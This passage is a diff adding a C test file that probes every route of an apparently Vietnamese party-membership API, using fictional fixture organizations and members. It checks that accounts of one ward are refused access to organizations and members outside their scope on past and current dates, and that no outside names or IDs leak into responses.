@@ -1,0 +1,783 @@
+/*
+ * test_scope.c - the scope, route by route: every route of the API (api_routes[], which
+ * docs/openapi.yaml mirrors) is tried by accounts of one ward against every kind of organization
+ * and member outside that ward - the parent, a sibling ward and its chi bộ, a chi bộ that moved
+ * out, one that moved in, one that ended, members of each, a member transferred out, one who
+ * died outside, one who moved in - on a past date and today, on a real server.
+ *
+ * What must hold (docs/server.md "Scope"):
+ *   - a request naming something outside the scope (on the request's date; for writes on that
+ *     date and today) is refused: 403/404, or for a file import 200 with "ok": false, and
+ *     nothing is written (the audit log does not grow);
+ *   - no answer, whatever it names, carries the name or national ID of a member outside today's
+ *     scope, nor the name of an organization outside the scope on the request's date.
+ * The test fails when a route has no line in scope_cases[] below.
+ */
+#include <setjmp.h>
+#include <stdarg.h>
+#include <stddef.h>
+#include <stdint.h>
+#include <stdio.h>
+#include <stdlib.h>
+#include <string.h>
+#include <time.h>
+
+#include <cmocka.h>
+
+#include "api/api.h"
+#include "client.h"
+
+#define PW   "Matkhau-pham-vi-2024"
+#define PAST "2021-06-01"
+/* scores of the rubrics in force today (QĐ 366) and in 2021 (grades) */
+#define SCORES     "1.1=8; 1.2=8; 1.3=7; 1.4=7; 2.1=25; 2.2=20; 2.3=10"
+#define ORG_SCORES "1.1=8; 1.2=6; 1.3=6; 1.4=5; 1.5=5; 2.1=0; 2.2=0; 2.3=0; 2.4=5; 2.5=5"
+#define GRADES     "1=tot; 2=tot; 3=tot; 4=tot; 5=tot"
+
+static char dir[256], db[300];
+static struct server srv;
+static struct session s_staff, s_viewer, s_admin;
+
+/* ---- the world -------------------------------------------------------------------------- */
+
+enum kind {
+    /* organizations */
+    K_TOP,       /* the city committee above everything */
+    K_PARENT,    /* the district above the ward */
+    K_SIBLING,   /* another ward */
+    K_SIB_CHIBO, /* a chi bộ of the other ward */
+    K_MOVED_OUT, /* a chi bộ of the ward until 2022, of the other ward since */
+    K_MOVED_IN,  /* a chi bộ of the other ward until 2022, of the ward since */
+    K_ENDED,     /* a chi bộ of the other ward dissolved in 2021 */
+    /* members */
+    K_M_PARENT,      /* registered in the district's own chi bộ */
+    K_M_SIBLING,     /* registered in the other ward */
+    K_M_MOVED_OUT,   /* in the chi bộ that moved out */
+    K_M_TRANSFERRED, /* in the ward until 2022, transferred to the other ward */
+    K_M_ENDED,       /* died in 2021 in the other ward */
+    K_M_MOVED_IN,    /* in the chi bộ that moved in: the ward's today, not before 2022 */
+    K__MAX
+};
+#define K_FIRST_MEMBER K_M_PARENT
+
+static const char *const kind_name[K__MAX] = {"parent of the parent",
+                                              "parent",
+                                              "sibling ward",
+                                              "sibling's chi bộ",
+                                              "moved-out chi bộ",
+                                              "moved-in chi bộ",
+                                              "ended chi bộ",
+                                              "member of the parent",
+                                              "member of the sibling",
+                                              "member of the moved-out chi bộ",
+                                              "transferred-out member",
+                                              "member who died outside",
+                                              "member of the moved-in chi bộ"};
+
+/* Is the subject outside for a read / a write on the past date (0) or today (1)? */
+static const bool outside_read[K__MAX][2] = {
+    [K_TOP] = {true, true},          [K_PARENT] = {true, true},        [K_SIBLING] = {true, true},
+    [K_SIB_CHIBO] = {true, true},    [K_MOVED_OUT] = {false, true},    [K_MOVED_IN] = {true, false},
+    [K_ENDED] = {true, true},        [K_M_PARENT] = {true, true},      [K_M_SIBLING] = {true, true},
+    [K_M_MOVED_OUT] = {true, true},  [K_M_TRANSFERRED] = {true, true}, [K_M_ENDED] = {true, true},
+    [K_M_MOVED_IN] = {false, false},
+};
+static const bool outside_write[K__MAX][2] = {
+    [K_TOP] = {true, true},         [K_PARENT] = {true, true},        [K_SIBLING] = {true, true},
+    [K_SIB_CHIBO] = {true, true},   [K_MOVED_OUT] = {true, true},     [K_MOVED_IN] = {true, false},
+    [K_ENDED] = {true, true},       [K_M_PARENT] = {true, true},      [K_M_SIBLING] = {true, true},
+    [K_M_MOVED_OUT] = {true, true}, [K_M_TRANSFERRED] = {true, true}, [K_M_ENDED] = {true, true},
+    [K_M_MOVED_IN] = {true, false},
+};
+
+static int64_t subject_id[K__MAX];
+static const char *subject_code[K__MAX] = {"HN", "QA", "PB", "B1", "M", "N", "BE"};
+static int64_t weak_id[K__MAX];
+/* inside: the ward, two of its chi bộ, a member */
+static int64_t id_pa, id_a1, id_a2, m_inside;
+
+struct person {
+    enum kind k;
+    const char *name, *nid, *org;
+};
+static const struct person people[] = {
+    {K_M_PARENT, "Hồ Văn Cấptrên", "001080000101", "QC"},
+    {K_M_SIBLING, "Đỗ Văn Bênkia", "001080000102", "B1"},
+    {K_M_MOVED_OUT, "Phạm Văn Dờiđi", "001080000103", "M"},
+    {K_M_TRANSFERRED, "Vũ Thị Chuyểnđi", "001080000104", "A1"},
+    {K_M_ENDED, "Ngô Văn Đãmất", "001080000105", "BE"},
+    {K_M_MOVED_IN, "Trịnh Văn Đếnnay", "001080000106", "N"},
+};
+/* organization names that must not appear when outside on the date (0 past, 1 today); the
+   other ward's own name may (a moved-in chi bộ's history says where it came from) */
+struct org_name {
+    const char *code, *name;
+    bool outside[2];
+};
+static const struct org_name org_names[] = {
+    {"B1", "Chi bộ Bênkia Một", {true, true}},
+    {"BE", "Chi bộ Đãgiải thể", {true, true}},
+    {"M", "Chi bộ Dờiđi", {false, true}},
+    {"N", "Chi bộ Đếnnay", {true, false}},
+};
+
+static int64_t json_id(const char *out)
+{
+    json_t *j = json_loads(out, 0, NULL);
+    int64_t id = j ? json_integer_value(json_object_get(j, "id")) : 0;
+    json_decref(j);
+    return id;
+}
+
+static int64_t org_add(const char *code, const char *name, const char *tier, const char *form,
+                       const char *parent, const char *type)
+{
+    char out[8192];
+    int rc = type     ? tcxd_run(db, NULL, out, sizeof(out), "--json", "org", "add", code, name,
+                                 "--tier", tier, "--form", form, "--parent", parent, "--type", type,
+                                 "--date", "2000-01-01", NULL)
+             : parent ? tcxd_run(db, NULL, out, sizeof(out), "--json", "org", "add", code, name,
+                                 "--tier", tier, "--form", form, "--parent", parent, "--date",
+                                 "2000-01-01", NULL)
+                      : tcxd_run(db, NULL, out, sizeof(out), "--json", "org", "add", code, name,
+                                 "--tier", tier, "--form", form, "--date", "2000-01-01", NULL);
+    if (rc) {
+        fprintf(stderr, "org add %s failed\n", code);
+        return 0;
+    }
+    return json_id(out);
+}
+
+static int64_t member_add(const char *org, const char *name, const char *nid)
+{
+    char out[16384];
+    if (tcxd_run(db, NULL, out, sizeof(out), "--json", "member", "add", "--org", org, "--name",
+                 name, "--gender", "nam", "--birth", "1980-05-01", "--decision-date", "2010-01-01",
+                 "--ceremony-date", "2010-01-15", "--official-date", "2011-01-15", "--national-id",
+                 nid, NULL)) {
+        fprintf(stderr, "member add %s failed\n", name);
+        return 0;
+    }
+    return json_id(out);
+}
+
+static int64_t audit_count(void)
+{
+    struct store *st;
+    struct tcxd_error e;
+    if (store_open(db, STORE_READONLY, &st, &e))
+        return -1;
+    int64_t n = store_audit_count(st);
+    store_close(st);
+    return n;
+}
+
+static int today_year(void)
+{
+    time_t t = time(NULL);
+    struct tm tm;
+    gmtime_r(&t, &tm);
+    return tm.tm_year + 1900;
+}
+
+static const char *today_iso(void)
+{
+    static char b[16];
+    time_t t = time(NULL);
+    struct tm tm;
+    localtime_r(&t, &tm);
+    strftime(b, sizeof(b), "%Y-%m-%d", &tm);
+    return b;
+}
+
+static int call_json(struct session *s, const char *method, const char *p, const char *body,
+                     json_t **out)
+{
+    struct resp r;
+    if (!http_request(s, method, p, NULL, body, 0, &r))
+        return -1;
+    int st = r.status;
+    if (out)
+        *out = r.json ? json_incref(r.json) : NULL;
+    resp_release(&r);
+    return st;
+}
+
+static int setup(void **state)
+{
+    const char *tmp = getenv("TMPDIR");
+    snprintf(dir, sizeof(dir), "%s/tcxd-scope-XXXXXX", tmp && *tmp ? tmp : "/tmp");
+    if (!mkdtemp(dir))
+        return -1;
+    snprintf(db, sizeof(db), "%s/t.db", dir);
+    if (tcxd_run(db, NULL, NULL, 0, "init", NULL))
+        return -1;
+    subject_id[K_TOP] = org_add("HN", "Đảng bộ Thành phố", "above_base", "dang_bo", NULL, NULL);
+    subject_id[K_PARENT] = org_add("QA", "Đảng bộ Quận A", "above_base", "dang_bo", "HN", NULL);
+    org_add("QC", "Chi bộ cơ quan Quận A", "base", "chi_bo", "QA", "co_quan_hanh_chinh");
+    id_pa = org_add("PA", "Đảng bộ phường Trongnay", "base", "dang_bo", "QA", "phuong");
+    subject_id[K_SIBLING] =
+        org_add("PB", "Đảng bộ phường Bênkia", "base", "dang_bo", "QA", "phuong");
+    id_a1 = org_add("A1", "Chi bộ Trong Một", "below_base", "chi_bo", "PA", NULL);
+    id_a2 = org_add("A2", "Chi bộ Trong Hai", "below_base", "chi_bo", "PA", NULL);
+    subject_id[K_MOVED_OUT] = org_add("M", "Chi bộ Dờiđi", "below_base", "chi_bo", "PA", NULL);
+    subject_id[K_SIB_CHIBO] =
+        org_add("B1", "Chi bộ Bênkia Một", "below_base", "chi_bo", "PB", NULL);
+    subject_id[K_MOVED_IN] = org_add("N", "Chi bộ Đếnnay", "below_base", "chi_bo", "PB", NULL);
+    subject_id[K_ENDED] = org_add("BE", "Chi bộ Đãgiải thể", "below_base", "chi_bo", "PB", NULL);
+    m_inside = member_add("A1", "Lê Văn Trongphạmvi", "001080000100");
+    for (size_t i = 0; i < sizeof(people) / sizeof(people[0]); i++)
+        subject_id[people[i].k] = member_add(people[i].org, people[i].name, people[i].nid);
+    char id[32];
+    snprintf(id, sizeof(id), "%lld", (long long)subject_id[K_M_TRANSFERRED]);
+    if (tcxd_run(db, NULL, NULL, 0, "member", "transfer", id, "--to", "B1", "--date", "2022-01-01",
+                 NULL) ||
+        tcxd_run(db, NULL, NULL, 0, "org", "dissolve", "BE", "--members-to", "B1", "--date",
+                 "2021-01-01", NULL))
+        return -1;
+    snprintf(id, sizeof(id), "%lld", (long long)subject_id[K_M_ENDED]);
+    if (tcxd_run(db, NULL, NULL, 0, "member", "exit", id, "--kind", "tu_tran", "--date",
+                 "2021-03-01", NULL) ||
+        tcxd_run(db, NULL, NULL, 0, "org", "move", "M", "PB", "--date", "2022-01-01", NULL) ||
+        tcxd_run(db, NULL, NULL, 0, "org", "move", "N", "PA", "--date", "2022-01-01", NULL))
+        return -1;
+    const char *users[][2] = {
+        {"staffA", "staff"}, {"viewA", "viewer"}, {"adminA", "admin"}, {"root", "admin"}};
+    for (int i = 0; i < 4; i++)
+        if (tcxd_run(db, PW, NULL, 0, "user", "add", users[i][0], "--role", users[i][1], "--scope",
+                     i == 3 ? "HN" : "PA", "--full-name", users[i][0], NULL))
+            return -1;
+    if (!server_start(&srv, db, "--threads", "2", NULL))
+        return -1;
+    struct session root;
+    if (login(&s_staff, srv.port, "staffA", PW) != 200 ||
+        login(&s_viewer, srv.port, "viewA", PW) != 200 ||
+        login(&s_admin, srv.port, "adminA", PW) != 200 || login(&root, srv.port, "root", PW) != 200)
+        return -1;
+    /* what the city's admin writes outside the ward: reviews of 2021 (one of a member who was
+       in the ward then), weak-organization entries */
+    char p[128], b[512];
+    const int64_t reviewed[] = {subject_id[K_M_TRANSFERRED], subject_id[K_M_MOVED_OUT],
+                                subject_id[K_M_SIBLING]};
+    for (size_t i = 0; i < 3; i++) {
+        snprintf(p, sizeof(p), "/api/reviews/members/%lld/steps", (long long)reviewed[i]);
+        snprintf(b, sizeof(b), "{\"year\":2021,\"step\":\"self_assess\",\"scores\":\"%s\"}",
+                 GRADES);
+        json_t *j = NULL;
+        if (call_json(&root, "POST", p, b, &j) != 201) {
+            char *t = j ? json_dumps(j, 0) : NULL;
+            fprintf(stderr, "review of %lld not recorded: %s\n", (long long)reviewed[i],
+                    t ? t : "");
+            free(t);
+            json_decref(j);
+            return -1;
+        }
+        json_decref(j);
+    }
+    for (int k = 0; k < K_FIRST_MEMBER; k++) {
+        json_t *j = NULL;
+        snprintf(b, sizeof(b), "{\"org_id\":%lld,\"year\":2021}", (long long)subject_id[k]);
+        if (call_json(&root, "POST", "/api/reviews/weak", b, &j) == 201)
+            weak_id[k] = json_integer_value(json_object_get(j, "id"));
+        json_decref(j);
+    }
+    return 0;
+}
+
+static int teardown(void **state)
+{
+    int st = server_stop(&srv);
+    server_kill_all();
+    char cmd[600];
+    snprintf(cmd, sizeof(cmd), "rm -rf '%s'", dir);
+    if (system(cmd)) {
+    }
+    return st ? -1 : 0;
+}
+
+/* ---- the table -------------------------------------------------------------------------- */
+
+/*
+ * One line per probe of a route (a route may have several). method and pattern are exactly as
+ * in api_routes[] (src/api/routes.c). path and body are templates:
+ *   {org}    the organization tried (an outside one, or the ward's chi bộ A1 when a member is
+ *            tried), {code} its code, {weak} its weak-organization entry of 2021
+ *   {member} the member tried (an outside one, or the ward's own member when an organization
+ *            is tried)
+ *   {date}   the date tried: 2021-06-01 or today; {year} its year
+ *   {a1} {a2} {pa}  the ward's two chi bộ and the ward itself; {n} a fresh number
+ * A probe runs for the organization kinds when it has {org}, {code} or {weak}, for the member
+ * kinds when it has {member}, and once per date otherwise (then only the answer's content is
+ * checked). A body starting with "CSV:" is sent as text/csv. path NULL: the route reads or
+ * writes nothing of a scope; why says so. {year} counts as a date like {date}.
+ */
+struct scope_case {
+    const char *method, *pattern;
+    const char *path, *body;
+    const char *why;
+};
+
+/* The audit log of the ward's own acts may name a chi bộ it once held (moving it out names
+   it); personal data in it still follows today's scope. */
+static bool names_once_inside(const struct scope_case *c)
+{
+    return !strcmp(c->pattern, "/api/audit");
+}
+
+static const struct scope_case scope_cases[] = {
+    {"POST", "/api/login", NULL, NULL, "public: answers only with the account logging in"},
+    {"POST", "/api/logout", NULL, NULL, "ends the caller's own session"},
+    {"GET", "/api/me", "/api/me", NULL, NULL},
+    {"POST", "/api/me/password", NULL, NULL, "the caller's own account"},
+    {"GET", "/api/orgs/root", "/api/orgs/root?as_of={date}", NULL, NULL},
+    {"GET", "/api/orgs", "/api/orgs?q=chi&as_of={date}&page_size=200", NULL, NULL},
+    {"GET", "/api/orgs", "/api/orgs?q=ben&as_of={date}", NULL, NULL},
+    {"POST", "/api/orgs", "/api/orgs",
+     "{\"parent_id\":{org},\"code\":\"X{n}\",\"name\":\"Chi bộ Mới {n}\",\"tier\":\"below_base\","
+     "\"form\":\"chi_bo\",\"date\":\"{date}\"}",
+     NULL},
+    {"GET", "/api/orgs/{id}", "/api/orgs/{org}?as_of={date}", NULL, NULL},
+    {"GET", "/api/orgs/{id}/children", "/api/orgs/{org}/children?as_of={date}", NULL, NULL},
+    {"GET", "/api/orgs/{id}/children", "/api/orgs/{pa}/children?as_of={date}", NULL, NULL},
+    {"GET", "/api/orgs/{id}/history", "/api/orgs/{org}/history", NULL, NULL},
+    {"POST", "/api/orgs/{id}/rename", "/api/orgs/{org}/rename",
+     "{\"name\":\"Tên mới {n}\",\"date\":\"{date}\"}", NULL},
+    {"POST", "/api/orgs/{id}/move", "/api/orgs/{org}/move",
+     "{\"parent_id\":{pa},\"date\":\"{date}\"}", NULL},
+    {"POST", "/api/orgs/{id}/move", "/api/orgs/{a2}/move",
+     "{\"parent_id\":{org},\"date\":\"{date}\"}", NULL},
+    {"POST", "/api/orgs/{id}/merge", "/api/orgs/{org}/merge",
+     "{\"into_id\":{a1},\"date\":\"{date}\"}", NULL},
+    {"POST", "/api/orgs/{id}/merge", "/api/orgs/{a2}/merge",
+     "{\"into_id\":{org},\"date\":\"{date}\"}", NULL},
+    {"POST", "/api/orgs/{id}/dissolve", "/api/orgs/{org}/dissolve",
+     "{\"members_to_id\":{a1},\"date\":\"{date}\"}", NULL},
+    {"POST", "/api/orgs/{id}/dissolve", "/api/orgs/{a2}/dissolve",
+     "{\"members_to_id\":{org},\"date\":\"{date}\"}", NULL},
+    {"GET", "/api/members", "/api/members?as_of={date}&page_size=200", NULL, NULL},
+    {"GET", "/api/members", "/api/members?as_of={date}&page_size=200&temporary=1&status=official",
+     NULL, NULL},
+    {"GET", "/api/members", "/api/members?q=van&as_of={date}&page_size=200", NULL, NULL},
+    {"GET", "/api/members", "/api/members?org={org}&as_of={date}", NULL, NULL},
+    {"POST", "/api/members", "/api/members",
+     "{\"full_name\":\"Lê Thị Mới\",\"gender\":\"nu\",\"birth_date\":\"1990-01-01\","
+     "\"org_id\":{org},\"decision_date\":\"{date}\"}",
+     NULL},
+    {"GET", "/api/members/due", "/api/members/due?org={org}&days=3650", NULL, NULL},
+    {"GET", "/api/members/due", "/api/members/due?days=3650", NULL, NULL},
+    {"GET", "/api/members/{id}", "/api/members/{member}", NULL, NULL},
+    {"POST", "/api/members/{id}/official", "/api/members/{member}/official",
+     "{\"decision_date\":\"{date}\"}", NULL},
+    {"POST", "/api/members/{id}/transfer", "/api/members/{member}/transfer",
+     "{\"to_org_id\":{a2},\"date\":\"{date}\"}", NULL},
+    {"POST", "/api/members/{id}/transfer", "/api/members/{inside}/transfer",
+     "{\"to_org_id\":{org},\"date\":\"{date}\"}", NULL},
+    {"POST", "/api/members/{id}/return", "/api/members/{member}/return", "{\"date\":\"{date}\"}",
+     NULL},
+    {"POST", "/api/members/{id}/discipline", "/api/members/{member}/discipline",
+     "{\"form\":\"khien_trach\",\"date\":\"{date}\"}", NULL},
+    {"POST", "/api/members/{id}/exempt", "/api/members/{member}/exempt", "{\"date\":\"{date}\"}",
+     NULL},
+    {"POST", "/api/members/{id}/exit", "/api/members/{member}/exit",
+     "{\"kind\":\"xoa_ten\",\"date\":\"{date}\"}", NULL},
+    {"GET", "/api/reports/structure", "/api/reports/structure?org={org}&as_of={date}", NULL, NULL},
+    {"GET", "/api/reports/structure", "/api/reports/structure?org={org}&compare={date}", NULL,
+     NULL},
+    {"GET", "/api/reports/structure", "/api/reports/structure?as_of={date}&compare={date}", NULL,
+     NULL},
+    {"GET", "/api/reports/structure.csv", "/api/reports/structure.csv?org={org}&as_of={date}", NULL,
+     NULL},
+    {"GET", "/api/reports/structure.csv", "/api/reports/structure.csv?as_of={date}", NULL, NULL},
+    {"GET", "/api/reports/structure.xlsx", "/api/reports/structure.xlsx?org={org}&as_of={date}",
+     NULL, NULL},
+    {"GET", "/api/reviews/rubric", NULL, NULL, "the rubrics are the same for everyone"},
+    {"GET", "/api/reviews/members/{id}", "/api/reviews/members/{member}?year={year}", NULL, NULL},
+    {"POST", "/api/reviews/members/{id}/steps", "/api/reviews/members/{member}/steps",
+     "{\"year\":{year},\"step\":\"self_assess\",\"scores\":\"{scores}\"}", NULL},
+    {"GET", "/api/reviews/orgs/{id}", "/api/reviews/orgs/{org}?year={year}", NULL, NULL},
+    {"POST", "/api/reviews/orgs/{id}/steps", "/api/reviews/orgs/{org}/steps",
+     "{\"year\":{year},\"step\":\"self_assess\",\"scores\":\"{oscores}\"}", NULL},
+    {"GET", "/api/reviews/report", "/api/reviews/report?org={org}&year={year}&items=1", NULL, NULL},
+    {"GET", "/api/reviews/report", "/api/reviews/report?year={year}&items=1", NULL, NULL},
+    {"GET", "/api/reviews/leniency", "/api/reviews/leniency?org={org}&year={year}", NULL, NULL},
+    {"GET", "/api/reviews/leniency", "/api/reviews/leniency?year={year}&threshold=0", NULL, NULL},
+    {"GET", "/api/reviews/weak", "/api/reviews/weak?org={org}&year_from={year}", NULL, NULL},
+    {"GET", "/api/reviews/weak", "/api/reviews/weak?year_from={year}&year_to={year}", NULL, NULL},
+    {"POST", "/api/reviews/weak", "/api/reviews/weak", "{\"org_id\":{org},\"year\":{year}}", NULL},
+    {"PUT", "/api/reviews/weak/{id}", "/api/reviews/weak/{weak}", "{\"plan\":\"kế hoạch {n}\"}",
+     NULL},
+    {"POST", "/api/import/members", "/api/import/members",
+     "CSV:full_name,gender,birth_date,admission_decision_date,ceremony_date,org\n"
+     "Hoàng Văn Nhập{n},nam,1990-02-02,{date},{date},{code}\n",
+     NULL},
+    {"POST", "/api/import/members", "/api/import/members",
+     "CSV:full_name,gender,birth_date,admission_decision_date,ceremony_date,admission_org,"
+     "arrival_date,org\n"
+     "Hoàng Văn Nhập{n},nam,1980-02-02,2010-01-01,2010-01-20,{code},2023-01-01,A1\n",
+     NULL},
+    {"GET", "/api/export/members", "/api/export/members?org={org}&as_of={date}", NULL, NULL},
+    {"GET", "/api/export/members", "/api/export/members?as_of={date}", NULL, NULL},
+    {"GET", "/api/audit", "/api/audit?org={org}&page_size=200", NULL, NULL},
+    {"GET", "/api/audit", "/api/audit?page_size=200", NULL, NULL},
+};
+#define NCASES (sizeof(scope_cases) / sizeof(scope_cases[0]))
+
+/* ---- running it ------------------------------------------------------------------------- */
+
+static int counter;
+
+/* Fills a template. */
+static void fill(const char *t, enum kind k, bool today, struct buf *out)
+{
+    buf_reset(out);
+    bool is_org = k < K_FIRST_MEMBER;
+    int year = today ? today_year() : 2021;
+    for (const char *p = t; *p;) {
+        if (*p != '{') {
+            buf_addch(out, *p++);
+            continue;
+        }
+        const char *end = strchr(p, '}');
+        size_t n = end ? (size_t)(end - p + 1) : 0;
+#define IS(s) (n == strlen(s) && !strncmp(p, s, n))
+        if (IS("{org}"))
+            buf_addf(out, "%lld", (long long)(is_org ? subject_id[k] : id_a1));
+        else if (IS("{code}"))
+            buf_adds(out, is_org ? subject_code[k] : "A1");
+        else if (IS("{weak}"))
+            buf_addf(out, "%lld", (long long)(is_org && weak_id[k] ? weak_id[k] : 999999));
+        else if (IS("{member}"))
+            buf_addf(out, "%lld", (long long)(is_org ? m_inside : subject_id[k]));
+        else if (IS("{inside}"))
+            buf_addf(out, "%lld", (long long)m_inside);
+        else if (IS("{date}"))
+            buf_adds(out, today ? today_iso() : PAST);
+        else if (IS("{year}"))
+            buf_addf(out, "%d", year);
+        else if (IS("{a1}"))
+            buf_addf(out, "%lld", (long long)id_a1);
+        else if (IS("{a2}"))
+            buf_addf(out, "%lld", (long long)id_a2);
+        else if (IS("{pa}"))
+            buf_addf(out, "%lld", (long long)id_pa);
+        else if (IS("{n}"))
+            buf_addf(out, "%d", counter);
+        else if (IS("{scores}"))
+            buf_adds(out, today ? SCORES : GRADES);
+        else if (IS("{oscores}"))
+            buf_adds(out, today ? ORG_SCORES : GRADES);
+        else
+            n = 0; /* a brace of the JSON itself */
+#undef IS
+        if (!n)
+            buf_addch(out, *p++);
+        p += n;
+    }
+}
+
+static bool has(const struct scope_case *c, const char *ph)
+{
+    return strstr(c->path, ph) || (c->body && strstr(c->body, ph));
+}
+
+static int failures;
+
+static void complain(const struct scope_case *c, const char *who, const char *kind, bool today,
+                     const char *req, const char *fmt, ...)
+{
+    va_list ap;
+    va_start(ap, fmt);
+    fprintf(stderr, "SCOPE HOLE: %s %s as %s, %s, %s: %s %s\n  ", c->method, c->pattern, who, kind,
+            today ? "today" : PAST, c->method, req);
+    vfprintf(stderr, fmt, ap);
+    fputc('\n', stderr);
+    va_end(ap);
+    failures++;
+}
+
+static void probe(const struct scope_case *c, struct session *s, const char *who, int k, bool today)
+{
+    struct buf p = BUF_INIT, b = BUF_INIT;
+    counter++;
+    fill(c->path, (enum kind)(k < 0 ? K_TOP : k), today, &p);
+    bool csv = c->body && !strncmp(c->body, "CSV:", 4);
+    if (c->body)
+        fill(csv ? c->body + 4 : c->body, (enum kind)(k < 0 ? K_TOP : k), today, &b);
+    bool writes = strcmp(c->method, "GET") != 0;
+    /* without {date} a probe asks about today whatever the column */
+    bool on_today = today || !(has(c, "{date}") || has(c, "{year}"));
+    bool outside = k >= 0 && (writes ? outside_write : outside_read)[k][on_today ? 1 : 0];
+    const char *kind = k >= 0 ? kind_name[k] : "(no subject)";
+    if (writes && !outside) { /* nothing to refuse: do not change the world */
+        buf_release(&p);
+        buf_release(&b);
+        return;
+    }
+    int64_t before = writes ? audit_count() : 0;
+    struct resp r;
+    assert_true(http_request(s, c->method, p.ptr, csv ? "text/csv" : NULL, c->body ? b.ptr : NULL,
+                             b.len, &r));
+    bool ok2xx = r.status >= 200 && r.status < 300;
+    /* a subject the caller may see (a member or chi bộ that moved in) may be refused by any
+       rule; one it may not see only as if it did not exist */
+    bool visible = k >= 0 && !outside_read[k][on_today ? 1 : 0];
+    bool refused =
+        r.status == 403 || r.status == 404 ||
+        (writes && visible && r.status >= 400 && r.status < 500) ||
+        (csv && r.status == 200 && r.json && json_is_false(json_object_get(r.json, "ok")));
+    if (outside && !refused)
+        complain(c, who, kind, today, p.ptr, "answered %d instead of refusing: %.300s", r.status,
+                 r.body ? r.body : "");
+    if (writes && audit_count() != before)
+        complain(c, who, kind, today, p.ptr, "wrote to the audit log (something changed)");
+    if (ok2xx && r.body) {
+        for (size_t i = 0; i < sizeof(people) / sizeof(people[0]); i++) {
+            if (!outside_read[people[i].k][1])
+                continue;
+            if (strstr(r.body, people[i].name) || strstr(r.body, people[i].nid))
+                complain(c, who, kind, today, p.ptr, "the answer names %s (%s)", people[i].name,
+                         kind_name[people[i].k]);
+        }
+        for (size_t i = 0; i < sizeof(org_names) / sizeof(org_names[0]); i++)
+            if (org_names[i].outside[on_today ? 1 : 0] && strstr(r.body, org_names[i].name) &&
+                !(names_once_inside(c) && !strcmp(org_names[i].code, "M")))
+                complain(c, who, kind, today, p.ptr, "the answer names %s", org_names[i].name);
+    }
+    resp_release(&r);
+    buf_release(&p);
+    buf_release(&b);
+}
+
+static const struct scope_case *find_case(const struct http_route *rt, size_t from)
+{
+    for (size_t i = from; i < NCASES; i++)
+        if (!strcmp(scope_cases[i].method, http_method_name(rt->method)) &&
+            !strcmp(scope_cases[i].pattern, rt->pattern))
+            return &scope_cases[i];
+    return NULL;
+}
+
+/* Every route has a line; every line is a route. */
+static void test_table_covers_every_route(void **state)
+{
+    int missing = 0;
+    for (const struct http_route *rt = api_routes; rt->pattern; rt++) {
+        if (find_case(rt, 0))
+            continue;
+        missing++;
+        fprintf(stderr,
+                "route %s %s is not in the scope table: add a line to scope_cases[] in "
+                "tests/api/test_scope.c, e.g.\n"
+                "    {\"%s\", \"%s\", \"<path with {org}, {member}, {date}, {year} ...>\", "
+                "<JSON body template or NULL>, NULL},\n"
+                "  (the comment above scope_cases[] lists the placeholders; one line per way the "
+                "route can name an organization or a member), or, for a route that reads and "
+                "writes nothing of any scope,\n"
+                "    {\"%s\", \"%s\", NULL, NULL, \"<why>\"},\n",
+                http_method_name(rt->method), rt->pattern, http_method_name(rt->method),
+                rt->pattern, http_method_name(rt->method), rt->pattern);
+    }
+    for (size_t i = 0; i < NCASES; i++) {
+        bool found = false;
+        for (const struct http_route *rt = api_routes; rt->pattern && !found; rt++)
+            found = !strcmp(scope_cases[i].method, http_method_name(rt->method)) &&
+                    !strcmp(scope_cases[i].pattern, rt->pattern);
+        if (!found) {
+            missing++;
+            fprintf(stderr, "scope_cases[] has %s %s, which is not a route\n",
+                    scope_cases[i].method, scope_cases[i].pattern);
+        }
+        if (!scope_cases[i].path && !scope_cases[i].why) {
+            missing++;
+            fprintf(stderr, "scope_cases[] line %s %s: give a path or say why (why)\n",
+                    scope_cases[i].method, scope_cases[i].pattern);
+        }
+    }
+    assert_int_equal(missing, 0);
+}
+
+static void test_every_route_every_outsider(void **state)
+{
+    struct {
+        struct session *s;
+        const char *who;
+    } as[] = {{&s_staff, "staff"}, {&s_viewer, "viewer"}, {&s_admin, "admin"}};
+    int probes = 0;
+    for (size_t i = 0; i < NCASES; i++) {
+        const struct scope_case *c = &scope_cases[i];
+        if (!c->path)
+            continue;
+        bool org = has(c, "{org}") || has(c, "{code}") || has(c, "{weak}");
+        bool mem = has(c, "{member}");
+        bool writes = strcmp(c->method, "GET") != 0;
+        for (size_t a = 0; a < sizeof(as) / sizeof(as[0]); a++) {
+            if (writes && a == 1)
+                continue; /* the viewer writes nothing: the roles test covers it */
+            for (int today = 0; today < 2; today++) {
+                if (!org && !mem) {
+                    probe(c, as[a].s, as[a].who, -1, today);
+                    probes++;
+                }
+                for (int k = 0; k < K__MAX; k++) {
+                    if ((k < K_FIRST_MEMBER && !org) || (k >= K_FIRST_MEMBER && !mem))
+                        continue;
+                    probe(c, as[a].s, as[a].who, k, today);
+                    probes++;
+                }
+            }
+        }
+    }
+    fprintf(stderr, "%d probes, %d holes\n", probes, failures);
+    assert_int_equal(failures, 0);
+}
+
+/* The inside still works: the probes refuse because of the scope, not because nothing works. */
+static void test_inside_answers(void **state)
+{
+    char p[160];
+    json_t *j = NULL;
+    snprintf(p, sizeof(p), "/api/members/%lld", (long long)subject_id[K_M_MOVED_IN]);
+    assert_int_equal(call_json(&s_staff, "GET", p, NULL, NULL), 200);
+    snprintf(p, sizeof(p), "/api/orgs/%lld?as_of=" PAST, (long long)subject_id[K_MOVED_OUT]);
+    assert_int_equal(call_json(&s_staff, "GET", p, NULL, NULL), 200);
+    /* as of 2021 the ward counted the chi bộ that left since and the member transferred since:
+       A1, A2 (0), M and the inside member: 1 + 1 (transferred) + 1 (M's) = 3 */
+    assert_int_equal(call_json(&s_staff, "GET", "/api/reports/structure?as_of=" PAST, NULL, &j),
+                     200);
+    json_t *counts = json_object_get(j, "counts");
+    json_int_t n = json_integer_value(json_object_get(counts, "members"));
+    json_decref(j);
+    assert_int_equal(n, 3);
+    /* but names only the inside one */
+    assert_int_equal(
+        call_json(&s_staff, "GET", "/api/members?as_of=" PAST "&page_size=200", NULL, &j), 200);
+    assert_int_equal(json_integer_value(json_object_get(j, "total")), 1);
+    json_decref(j);
+    /* a write inside, on both dates */
+    snprintf(p, sizeof(p), "/api/members/%lld/discipline", (long long)m_inside);
+    assert_int_equal(
+        call_json(&s_staff, "POST", p, "{\"form\":\"khien_trach\",\"date\":\"" PAST "\"}", NULL),
+        200);
+}
+
+struct nid_audit {
+    int64_t member;
+    int n;
+};
+
+static void count_nid_check(void *ctx, const struct audit_row *r)
+{
+    struct nid_audit *a = ctx;
